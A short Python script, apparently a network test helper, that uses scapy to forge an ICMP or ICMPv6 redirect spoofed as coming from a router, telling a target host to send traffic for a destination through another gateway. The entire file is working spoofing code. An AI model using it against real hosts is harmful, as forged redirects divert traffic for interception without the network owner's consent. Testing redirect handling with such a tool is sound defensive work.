# SPDX-License-Identifier: GPL-2.0
"""Sends one ICMP redirect, by scapy.

    usage: router_message.py DEV redirect4|redirect6 MAC VICTIM ROUTER BETTER FAR

ROUTER, which is somebody else, tells VICTIM at MAC that BETTER is the way to
FAR. What VICTIM is said to have sent is the answer to a ping: of other packets
it knows whether it did.
"""
import sys

from scapy.layers.inet import ICMP, IP
from scapy.layers.inet6 import (ICMPv6ND_Redirect,
                                 ICMPv6NDOptDstLLAddr, IPv6)
from scapy.layers.l2 import Ether
from scapy.config import conf
from scapy.arch import get_if_hwaddr
from scapy.sendrecv import sendp


def redirect4(victim, router, better, far):
    return (IP(src=router, dst=victim) / ICMP(type=5, code=1, gw=better) /
            IP(src=victim, dst=far) / ICMP(type=0))


def redirect6(victim, router, better, far, mac):
    return (IPv6(src=router, dst=victim, hlim=255) /
            ICMPv6ND_Redirect(tgt=better, dst=far) /
            ICMPv6NDOptDstLLAddr(lladdr=mac))


def main():
    dev, kind, mac, victim, router, better, far = sys.argv[1:]
    own = get_if_hwaddr(dev)
    if kind == "redirect4":
        packet = redirect4(victim, router, better, far)
    else:
        packet = redirect6(victim, router, better, far, own)
    conf.verb = 0
    sendp(Ether(src=own, dst=mac) / packet, iface=dev)


main()
